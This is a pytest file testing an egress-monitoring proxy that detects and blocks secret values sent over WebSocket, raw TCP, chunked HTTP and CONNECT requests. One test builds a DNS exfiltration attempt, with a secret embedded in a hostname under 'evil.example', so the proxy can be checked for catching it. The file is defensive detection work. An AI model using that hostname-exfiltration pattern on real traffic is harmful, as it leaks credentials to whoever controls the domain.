"""WebSocket messages, raw TCP in a CONNECT, hand-made requests, and a user's own proxy."""

from __future__ import annotations

import base64
import secrets
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from proxy_support.servers import LoopbackServer, frame, http1, raw, read_frame
from proxy_support.session import RULE, Guarded, block_policy, guarded, known_value

from agentguard.model.observation import GapType

HANDSHAKE = (
    "GET {target} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
)


@pytest.fixture(scope="module")
def all_tests_proxy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guarded]:
    """A start costs more than most tests do."""
    with pytest.MonkeyPatch.context() as patch, guarded(tmp_path_factory.mktemp("proxy"), patch) as running:
        yield running


@pytest.fixture
def proxy(all_tests_proxy: Guarded) -> Guarded:
    return all_tests_proxy.anew()


@pytest.fixture(scope="module")
def all_tests_blocking(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guarded]:
    folder = tmp_path_factory.mktemp("blocking")
    with pytest.MonkeyPatch.context() as patch, guarded(folder, patch, home=block_policy(folder, "127.0.0.1")) as proxy:
        yield proxy


@pytest.fixture
def blocking(all_tests_blocking: Guarded) -> Guarded:
    return all_tests_blocking.anew()


@pytest.fixture
def web() -> Iterator[LoopbackServer]:
    with LoopbackServer(http1) as running:
        yield running


@pytest.fixture
def plain() -> Iterator[LoopbackServer]:
    with LoopbackServer(raw) as running:
        yield running


def _websocket(proxy: Guarded, server: LoopbackServer) -> tuple[socket.socket, object]:
    client = socket.create_connection(("127.0.0.1", proxy.port), 20)
    key = base64.b64encode(b"k" * 16).decode()
    target = f"http://127.0.0.1:{server.port}/ws"
    client.sendall(HANDSHAKE.format(target=target, port=server.port, key=key).encode())
    file = client.makefile("rb")
    assert b"101" in file.readline()
    while file.readline().strip():
        pass
    return client, file


def _connect(proxy: Guarded, server: LoopbackServer) -> tuple[socket.socket, object]:
    client = socket.create_connection(("127.0.0.1", proxy.port), 20)
    client.sendall(f"CONNECT 127.0.0.1:{server.port} HTTP/1.1\r\n\r\n".encode())
    file = client.makefile("rb")
    assert b"200" in file.readline()
    while file.readline().strip():
        pass
    return client, file


def test_websocket_message_is_seen_whole(proxy: Guarded, web: LoopbackServer) -> None:
    value = proxy.follow()
    client, file = _websocket(proxy, web)
    with client:
        for message in (b"hello", b"x" * 100_000 + value.value, b"bye"):
            client.sendall(frame(message, masked=True))
            assert read_frame(file) == b"%d" % len(message)
    proxy.wait(proxy.sends)
    (seen,) = proxy.sends()
    assert (seen.protocol, seen.method, seen.scheme) == ("websocket", "SEND", "ws")
    assert seen.body_size == 100_000 + len(value.value)
    assert [(match.fingerprint, match.place) for match in seen.matches] == [(value.fingerprint, "websocket")]
    proxy.assert_no_raw(value)


def test_blocked_websocket_message_is_dropped_and_the_next_passes(blocking: Guarded, web: LoopbackServer) -> None:
    value = blocking.follow()
    client, file = _websocket(blocking, web)
    with client:
        client.sendall(frame(b"secret " + value.value, masked=True) + frame(b"fine", masked=True))
        assert read_frame(file) == b"4"
    blocking.wait(blocking.sends)
    assert blocking.sends()[0].enforced_rule == RULE
    assert not web.log.holds(value.value)


def test_raw_tcp_is_seen_across_segments(proxy: Guarded, plain: LoopbackServer) -> None:
    value = proxy.follow()
    client, file = _connect(proxy, plain)
    with client:
        assert file.readline() == b"+HELLO\n"  # type: ignore[attr-defined]
        for part in (b"AUTH " + value.value[:10], value.value[10:] + b"\n"):
            client.sendall(part)
            assert file.readline() == b"+OK\n"  # type: ignore[attr-defined]
    proxy.wait(proxy.sends)
    (seen,) = proxy.sends()
    assert (seen.protocol, seen.method, seen.port) == ("tcp", "SEND", plain.port)
    assert seen.url == f"tcp://127.0.0.1:{plain.port}"
    assert seen.matches[0].place == "tcp"
    proxy.assert_no_raw(value)


def test_blocked_raw_tcp_is_cut(blocking: Guarded, plain: LoopbackServer) -> None:
    value = blocking.follow()
    client, file = _connect(blocking, plain)
    with client:
        file.readline()  # type: ignore[attr-defined]
        client.sendall(b"AUTH " + value.value + b"\n")
        assert file.read() == b""  # type: ignore[attr-defined]  # not the +OK of a server that got it
    blocking.wait(blocking.sends)
    assert blocking.sends()[0].enforced_rule == RULE
    assert plain.log.raw == b""


def test_ssh_through_the_proxy_is_a_gap(proxy: Guarded, plain: LoopbackServer) -> None:
    client, file = _connect(proxy, plain)
    with client:
        file.readline()  # type: ignore[attr-defined]
        client.sendall(b"SSH-2.0-OpenSSH_9.6\r\n")
        file.readline()  # type: ignore[attr-defined]
    proxy.wait(lambda: proxy.gaps(GapType.OPAQUE_BODY))
    assert "SSH" in proxy.gaps()[0].detail


def test_name_to_connect_to_is_scanned_and_not_told(blocking: Guarded) -> None:
    """Whoever answers for evil.example in the DNS would read it."""
    value = blocking.follow(known_value(secrets.token_hex(16)))
    with socket.create_connection(("127.0.0.1", blocking.port), 20) as client:
        client.sendall(f"CONNECT {value.value.decode()}.evil.example:443 HTTP/1.1\r\n\r\n".encode())
        client.recv(100)
    blocking.wait(blocking.sends)
    (seen,) = blocking.sends()
    assert seen.method == "CONNECT"
    assert seen.matches[0].place == "host"
    blocking.assert_no_raw(value)


def test_expected_body_that_never_comes_is_no_crash(proxy: Guarded, web: LoopbackServer) -> None:
    value = proxy.follow()
    head = f"POST http://127.0.0.1:{web.port}/ HTTP/1.1\r\nHost: x\r\nX-A: {value.value.decode()}\r\n"
    for tail in ("Content-Length: 100\r\n\r\nshort", "Transfer-Encoding: chunked\r\n\r\n5\r\nshort"):
        with socket.create_connection(("127.0.0.1", proxy.port), 20) as client:
            client.sendall((head + tail).encode())
    assert proxy.curl(f"http://127.0.0.1:{web.port}/").stdout == b"ok\n"
    assert not proxy.gaps(GapType.SCAN_FAILED)
    assert not proxy.gaps(GapType.PROXY_RESTARTED)
    proxy.assert_no_raw(value)


def test_body_that_breaks_off_behind_the_value_is_seen(proxy: Guarded, web: LoopbackServer) -> None:
    value = proxy.follow()
    head = f"POST http://127.0.0.1:{web.port}/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    with socket.create_connection(("127.0.0.1", proxy.port), 20) as client:
        client.sendall(head.encode() + b"%x\r\n%s\r\n" % (len(value.value), value.value))
        proxy.wait(lambda: web.log.holds(value.value))
    proxy.wait(proxy.sends)
    assert [match.fingerprint for match in proxy.sends()[0].matches] == [value.fingerprint]


def test_users_own_proxy_is_gone_through_but_not_for_loopback(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, web: LoopbackServer
) -> None:
    with LoopbackServer(http1) as corporate:
        own = f"http://me:{'pass' + 'word'}@127.0.0.1:{corporate.port}"
        with guarded(tmp_path, monkeypatch, upstream_proxy=own) as proxy:
            assert proxy.sensor.prove(10)
            assert proxy.curl(f"http://127.0.0.1:{web.port}/near").stdout == b"ok\n"
            assert proxy.curl("http://far.example/away").stdout == b"ok\n"
            tunnel = proxy.curl("--proxytunnel", f"http://127.0.0.1:{web.port}/tunnel")
            assert tunnel.stdout == b"ok\n"
            proxy.curl("--max-time", "1", "https://far.example/tunnel")
            proxy.wait(lambda: len(corporate.log.requests) >= 2)
        assert [request.path for request in web.log.requests] == ["/near", "/tunnel"]
        far, connect = corporate.log.requests[:2]
        assert far.path == "http://far.example/away"
        assert far.headers["proxy-authorization"].startswith("Basic ")
        assert (connect.method, connect.path) == ("CONNECT", "far.example:443")
